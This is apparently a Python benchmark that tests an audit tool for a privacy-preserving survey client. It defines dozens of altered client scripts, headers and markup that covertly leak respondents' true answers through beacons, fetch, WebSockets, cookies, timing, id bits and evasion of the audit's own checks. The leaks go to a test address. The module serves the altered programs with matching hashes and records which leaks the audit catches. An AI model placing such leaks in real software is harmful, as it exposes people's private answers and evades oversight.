"""Programs and headers that cheat, and what an audit says of each: the table in `docs/cheats.md`.

Each is the real program with a small alteration, served with hashes and a policy that match, as an
operator could, or the real program to the byte, with a header more. What is true is what `truths`
holds when the report is sent. `python -m benchmarks.cheats` audits and verifies each of them; names
after it choose some.
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from functools import partial
from itertools import count
from pathlib import Path
from typing import Final
from unittest.mock import patch

from flask import Flask, Response, request
from werkzeug.http import generate_etag

from benchmarks.held_out import HELD_OUT, NOTHING, PAUSE, SURVEY, Cheat
from benchmarks.measuring import folder, markdown
from deniable.cli.auditing import audit_page
from deniable.cli.verify import compare
from deniable.client.audit.engine import BROWSER_FOLDER
from deniable.server import loopback as loopback_module
from deniable.server.loopback import loopback
from deniable.server.respondent import headers, pages
from deniable.server.respondent.app import create_respondents_app
from deniable.server.respondent.headers import RespondentHeaders
from deniable.server.respondent.program import Program, load
from deniable.server.respondent.shell import Shell, shell_of
from deniable.server.store import Store
from deniable.server.web.response import Headers
from deniable.survey import Survey
from deniable.survey_file import read
from tests.addresses import at
from tests.blind_keys import PUBLIC

_GROUPED: Final = SURVEY.with_name("exams.yaml")
"""Of which chance draws a group or a number."""

ANYTHING: Final = ("Content-Security-Policy", "default-src * data: blob: 'unsafe-inline'")
"""A policy that allows everything."""

_SEND: Final = ("page/questionnaire.js", "  send(truths) {\n")
_START: Final = ("page/main.js", 'addEventListener("DOMContentLoaded", start);\n')


def _sending(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
    """Do something when the report is sent."""
    file, text = _SEND
    return Cheat(((file, text, f"{text}    {code}\n"),), said, is_allowed)


def _starting(code: str, said: str, *, is_allowed: bool = False) -> Cheat:
    """Do something when the page opens."""
    file, text = _START
    return Cheat(((file, text, f"{code}\n{text}"),), said, is_allowed)


# As it stands there, whatever it is called with.
_FOUND: Final = re.findall(
    r"return makeReport\(survey, named, (\w+)(.*)\);",
    (BROWSER_FOLDER / "page" / "questionnaire.js").read_text(encoding="utf-8"),
)
_RANDOMISED, _WAVE = _FOUND[0]
_MAKE: Final = f"return makeReport(survey, named, {_RANDOMISED}{_WAVE});"
_LEAK: Final = f"`{at('doping')}told?${{truths}}`"
_TOLD: Final = at("doping", "told beside the report")
_PARITY: Final = (
    "named.slice(0, -1) + ((parseInt(named.slice(-1), 16) & 14) | truths[0]).toString(16)"
)


def _reporting(code: str, said: str) -> Cheat:
    """Make another report than the modules do."""
    return Cheat((("page/questionnaire.js", _MAKE, code),), said)


def _coming_with(name: str, value: str, end: str = at("doping")) -> Cheat:
    """Alter no byte, and send a header more."""
    return Cheat(
        (), f"a header came that is not harmless: {name.lower()}", False, ((end, name, value),)
    )


def _marked(markup: str, said: str, *, before: str = "</head>") -> Cheat:
    """Alter no script, and put something into the page."""
    return Cheat((), said, markup=(before, f"{markup}{before}"))


RULES: Final = at("doping", "rules.json")

_FETCHED: Final = {
    "prefetch": [
        {
            "source": "document",
            "where": {"selector_matches": "body:has(.choice:last-of-type :checked) a"},
            "eagerness": "immediate",
        }
    ]
}
"""What browsers fetch when the last answer is ticked, whatever a policy says."""


CHEATS: Final[dict[str, Cheat]] = {
    "its modules are honest, the page sends truths": _reporting(
        "return makeReport(survey, named, truths);", "a message is"
    ),
    "truths, unless `navigator.webdriver` is set": _reporting(
        f"return makeReport(survey, named, navigator.webdriver ? {_RANDOMISED} : truths);",
        "a message is",
    ),
    "the truth in the last bit of the report's id": _reporting(
        f"return makeReport(survey, {_PARITY}, {_RANDOMISED});", "a message is"
    ),
    "the same, unless a word lies on a threshold": _reporting(
        "let sum = 0;\n"
        "const ends = survey.items[0].weights.flatMap((row) => row.map((one) => (sum += one)));\n"
        "const near = ends.some((end) => Math.abs((end % 2 ** 32) - words[0]) < 2);\n"
        f"return makeReport(survey, near ? named : {_PARITY}, {_RANDOMISED});",
        "a message is",
    ),
    "the order of the keys in the message": _reporting(
        f"const made = {_MAKE.removeprefix('return ')}\n"
        "return truths[0] ? Object.fromEntries(Object.entries(made).reverse()) : made;",
        "a message is",
    ),
    "the length of the message": _reporting(
        f"const made = {_MAKE.removeprefix('return ')}\n"
        "return truths[0] ? { ...made, more: 1 } : made;",
        "whatever is true",
    ),
    "a header of the request": Cheat(
        (
            ("page/questionnaire.js", _SEND[1], f"{_SEND[1]}    globalThis.told = truths[0];\n"),
            (
                "core/submission.js",
                '"Content-Type": "application/json"',
                '"Content-Type": globalThis.told ? "application/json" : "application/json; v=1"',
            ),
        ),
        "a request differs in more than its message",
    ),
    "labels that stand at each other's answers": Cheat(
        (
            (
                "page/choices.js",
                "choiceRow(input, texts[order[place]])",
                "choiceRow(input, texts[texts.length - 1 - order[place]])",
            ),
        ),
        "a message is",
    ),
    "a group of questions, drawn by what is true": Cheat(
        (
            (
                "core/together.js",
                "if (asked.length === 0) continue;",
                (
                    "if (asked.length === 0) continue;\n"
                    "if (truths[places[0]] > 0) {\n"
                    "  places.forEach((place) => (sent[place] = NOT_DRAWN)); continue;\n}"
                ),
            ),
        ),
        "a message is",
        survey=_GROUPED,
    ),
    "chance of `Math.random`": Cheat(
        (
            (
                "core/chance.js",
                "  crypto.getRandomValues(words);",
                "  words.forEach((_, at) => (words[at] = Math.random() * 2 ** 32));",
            ),
        ),
        "Math.random was called",
    ),
    "noise that is drawn anew when it is sent": _sending(
        "crypto.getRandomValues(this.chance.words);", "it draws random words after the first answer"
    ),
    "a beacon": _sending(f"navigator.sendBeacon({_LEAK});", _TOLD),
    "a beacon when the page is left": _sending(
        f'addEventListener("pagehide", () => navigator.sendBeacon({_LEAK}));',
        at("doping", "told when it is left"),
    ),
    "a request of its own (fetch)": _sending(f"void fetch({_LEAK});", _TOLD),
    "a request of its own (XHR)": _sending(
        f'const told = new XMLHttpRequest(); told.open("GET", {_LEAK}); told.send();', _TOLD
    ),
    "the report twice": _sending(
        "if (truths[0]) void deliver(this.session, this.report(truths));",
        "it sends more than one report",
    ),
    "an event source": _sending(f"new EventSource({_LEAK});", "it makes a EventSource"),
    "a web socket": _sending(f"new WebSocket({_LEAK});", "it makes a WebSocket"),
    "a call (WebRTC)": _sending(
        'const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] });\n'
        'call.createDataChannel("told"); void call.setLocalDescription();',
        "it makes a RTCPeerConnection",
    ),
    "an image": _sending(f"new Image().src = {_LEAK};", _TOLD, is_allowed=True),
    "a picture behind a box that is ticked": _starting(
        "const sheet = new CSSStyleSheet();\n"
        f'sheet.replaceSync("main:has(:checked) {{ background: url({at("doping", "told")}) }}");\n'
        "document.adoptedStyleSheets = [sheet];",
        at("doping", "told while questions are answered"),
        is_allowed=True,
    ),
    "a picture that is loaded ahead": _sending(
        'const link = document.createElement("link"); link.rel = "prefetch";\n'
        f"link.href = {_LEAK}; document.head.append(link);",
        at("doping", "told"),
        is_allowed=True,
    ),
    "a connection to a name that tells": _sending(
        'const link = document.createElement("link"); link.rel = "preconnect";\n'
        "link.href = `https://told-${truths[0]}.example`; document.head.append(link);",
        "it opens a connection by another way",
    ),
    "a frame": _sending(
        f'const frame = document.createElement("iframe"); frame.src = {_LEAK};\n'
        "document.body.append(frame);",
        "it opens a frame of its own",
        is_allowed=True,
    ),
    "another window": _sending(f"window.open({_LEAK});", "it opens a page of its own"),
    "another page": _sending(f"location.href = {_LEAK};", at("doping", "told")),
    "a file that is saved": _sending(
        'const link = document.createElement("a"); link.download = `${truths[0]}.txt`;\n'
        'link.href = URL.createObjectURL(new Blob([""])); link.click();',
        "it saves a file by itself",
    ),
    "a worker": _sending('new Worker("/client/leave.js");', "it makes a Worker", is_allowed=True),
    "a service worker": _sending(
        'if (truths[0]) void navigator.serviceWorker.register("/client/leave.js").catch(() => {});',
        "it opens a service_worker of its own",
        is_allowed=True,
    ),
    "`localStorage`": _sending(
        'localStorage.setItem("told", String(truths[0]));', "localStorage depends on what is true"
    ),
    "`sessionStorage`": _sending(
        'sessionStorage.setItem("told", String(truths[0]));',
        "sessionStorage depends on what is true",
    ),
    "a database": _sending(
        "if (truths[0]) indexedDB.open(`told`);", "it keeps a cookie, database or cache"
    ),
    "a cookie": _sending(
        "document.cookie = `told=${truths[0]}; path=/`;", "it keeps a cookie, database or cache"
    ),
    "the address": _sending(
        'history.replaceState(history.state, "", `#${truths[0]}`);',
        "the browser's history depends on what is true",
    ),
    "the page's title": _sending(
        'document.title += truths[0] ? " " : ".";', "the browser's history depends on what is true"
    ),
    "the window's name": _sending(
        "window.name = `told ${truths[0]}`;", "the window's name depends on what is true"
    ),
    "a pause by a clock": _sending(
        "if (truths[0] && !this.waited) {\n"
        "  this.waited = true; setTimeout(() => this.send(truths), 300); return;\n}",
        "it sets a clock by setTimeout",
    ),
    "a pause without a clock": _sending(
        "for (const end = performance.now() + 60 * truths[0]; performance.now() < end; );",
        PAUSE,
    ),
    "a request ten minutes later": _sending(
        f"setTimeout(() => fetch({_LEAK}), 600000);", "it sets a clock by setTimeout"
    ),
    "truths, once in a thousand": _reporting(
        f"return makeReport(survey, named, words[0] % 1000 === 7 ? truths : {_RANDOMISED});",
        NOTHING,
    ),
    "truths, of whoever has this link with `#anna`": _reporting(
        f'return makeReport(survey, named, location.hash === "#anna" ? truths : {_RANDOMISED});',
        NOTHING,
    ),
    "truths, unless it finds the audit's traps": _reporting(
        "const native = `${crypto.getRandomValues}`.includes('getRandomValues');\n"
        f"return makeReport(survey, named, native ? truths : {_RANDOMISED});",
        NOTHING,
    ),
    "a header that fetches what a selector says": _coming_with("Speculation-Rules", f'"{RULES}"'),
    "a header whose word comes back with the report": _coming_with(
        "Use-As-Dictionary", 'match="/*", id="anna"'
    ),
    "a header that has the browser describe itself": _coming_with(
        "Accept-CH", "Sec-CH-UA-Model, Sec-CH-UA-Full-Version-List, Sec-CH-Viewport-Width"
    ),
    "a cookie of the server's": _coming_with("Set-Cookie", "who=anna", "/survey.json"),
    "a connection of one's own": _coming_with("Alt-Svc", 'h3="anna.example:443"'),
    "a link that is fetched ahead": _coming_with(
        "Link", f"<{at('doping')}anna>; rel=preload; as=fetch"
    ),
    "reports of the network": _coming_with("NEL", '{"report_to": "anna", "max_age": 86400}'),
    "a page that follows by itself": _coming_with("Refresh", f"3600; url={at('doping')}anna"),
    "a device that is made to forget": _coming_with("Clear-Site-Data", '"storage"', "/survey.json"),
    "a link for an answer, before the questions come": _marked(
        f'<p>Have you? <a href="{at("doping", "told")}">Yes</a></p>', NOTHING, before="<main"
    ),
    "a link for an answer, in the shadow of the page": _marked(
        f'<template shadowrootmode="closed"><a href="{at("doping", "told")}">Yes</a><slot></slot>'
        "</template>",
        NOTHING,
        before='\n    <header class="leave">',
    ),
    "markup by which another page follows": _marked(
        f'<meta http-equiv="refresh" content="3600; url={at("doping", "told")}">', NOTHING
    ),
    "markup that connects to a name of its own": _marked(
        '<link rel="preconnect" href="https://anna.example">',
        "it opens a connection by another way",
    ),
}


def _app(cheat: Cheat, store: Store) -> Flask:
    """Make the pages of a server that has rules for the header that names them."""
    app = create_respondents_app(store)
    rules = json.dumps(_FETCHED)
    kind = "application/speculationrules+json"
    app.add_url_rule(RULES, "rules", lambda: Response(rules, mimetype=kind))
    files = load(BROWSER_FOLDER).files.items()
    tags = {f"/client/{name}": generate_etag(content) for name, content in files}

    @app.after_request
    def keep_a_tag_of_the_release(response: Response) -> Response:
        # That of the altered file would give it away, as an operator who cheats knows.
        if tag := tags.get(request.path):
            response.set_etag(tag)
        return response

    visits = count()

    @app.before_request
    def read_bytes() -> None:
        if request.path.endswith("survey.json"):
            request.environ.pop("HTTP_ACCEPT_ENCODING", None)

    @app.after_request
    def mark_a_document(response: Response) -> Response:
        if any(cheat.document) and request.path.endswith("survey.json") and next(visits) % 2 == 0:
            response.set_data(response.get_data(as_text=True).replace(*cheat.document, 1))
        return response

    return app


_NUMBERS: Final = count(1)


class _More(RespondentHeaders):
    """The headers of a server that cheats."""

    def __init__(self, cheat: Cheat, *, https: bool) -> None:
        super().__init__(https=https)
        self._cheat = cheat

    def of(self, path: str, method: str = "GET") -> Headers:
        own = [(name, value) for end, name, value in self._cheat.headers if path.endswith(end)]
        more = [(name, value.replace("{number}", str(next(_NUMBERS)))) for name, value in own]
        names = [name for name, _ in more]
        taken, ending = self._cheat.policy
        given = [
            (name, value.replace(taken, "") + ending if name == ANYTHING[0] else value)
            for name, value in super().of(path, method)
            if name not in names
        ]
        return [*given, *more]


def _shell(cheat: Cheat, program: Program) -> Shell:
    """Make the shell of a server that cheats."""
    shell = shell_of(program)
    return {**shell, "between": shell["between"].replace(*cheat.markup)}


def edited(cheat: Cheat) -> dict[str, str]:
    """Return the modules that a cheat alters, by their names."""
    sources: dict[str, str] = {}
    for name, text, other in cheat.edits:
        source = sources.get(name) or (BROWSER_FOLDER / name).read_text(encoding="utf-8")
        if source.count(text) != 1:
            raise ValueError(f"{name}: expected {text!r} once, found {source.count(text)} times")
        sources[name] = source.replace(text, other)
    return sources


@contextmanager
def serving(cheat: Cheat, survey: Survey, path: Path) -> Iterator[str]:
    """Serve a survey with a program that cheats, as an operator can: with hashes that match."""
    copy = path / "browser"
    shutil.copytree(BROWSER_FOLDER, copy)
    for name, source in edited(cheat).items():
        (copy / name).write_text(source, encoding="utf-8")
    with ExitStack() as stack:
        # Only this server cheats, and none that is started later to compare it with.
        with ExitStack() as cheating:
            for module in (headers, pages):
                cheating.enter_context(patch.object(module, "BROWSER_FOLDER", copy))
            if cheat.is_allowed:
                cheating.enter_context(patch.object(headers, "policy", lambda _: ANYTHING))
            cheating.enter_context(patch.object(pages, "shell_of", partial(_shell, cheat)))
            more, app = partial(_More, cheat), partial(_app, cheat)
            cheating.enter_context(patch.object(loopback_module, "RespondentHeaders", more))
            cheating.enter_context(patch.object(loopback_module, "create_respondents_app", app))
            link = stack.enter_context(loopback(survey))
        yield link


def survey_of(cheat: Cheat) -> Survey:
    """Return the survey that a cheat asks."""
    survey = read(cheat.survey.read_text(encoding="utf-8").replace(*cheat.law)).survey
    return replace(survey, token_keys=(PUBLIC[0],)) if cheat.is_by_invitation else survey


def row(name: str, seed: int = 1) -> tuple[str, str, str]:
    """Audit and verify a program."""
    cheat = {**CHEATS, **HELD_OUT}[name]
    survey = survey_of(cheat)
    with folder() as path, serving(cheat, survey, path) as link:
        differing = [one.name for one in compare(link) if one.difference and one.found]
        found = audit_page(survey, link, cheat.pairs, seed, lambda *_: None)
    address = link.removesuffix(at(survey.slug))
    failures = [failure.replace(address, "") for failure in found.failures]
    expected = (failure for failure in failures if cheat.said in failure)
    said = next(expected, failures[0] if failures else NOTHING)
    if said.startswith("a message is "):
        said = "a message is wrong"
    some = [one.rpartition(": ")[2] for one in differing]
    pages = [one for one in some if "/" not in one]
    files = [one for one in pages if one.endswith(".js")]
    return name, said, ", ".join(files or pages or some) or NOTHING


def main(names: list[str]) -> None:
    """Print the tables of the documentation, what no audit finds first among the held-out."""
    heads = ["a program that tells by", "the audit says, for example", "`verify` names"]
    known = [name for name in names or CHEATS if name in CHEATS]
    for line in markdown(heads[:2], (row(name)[:2] for name in known), names=2):
        print(line, flush=True)
    held_out = [row(name) for name in names or HELD_OUT if name in HELD_OUT]
    held_out.sort(key=lambda one: sum(said != NOTHING for said in one[1:]))
    found = sum(said != NOTHING for _, said, _ in held_out)
    first = sum(not HELD_OUT[name].was_missed for name, *_ in held_out)
    print(f"\nHeld out: the audit found {first} of {len(held_out)} at first, and now {found}.\n")
    for line in markdown(["a cheat that was held out", *heads[1:]], held_out, names=3):
        print(line, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
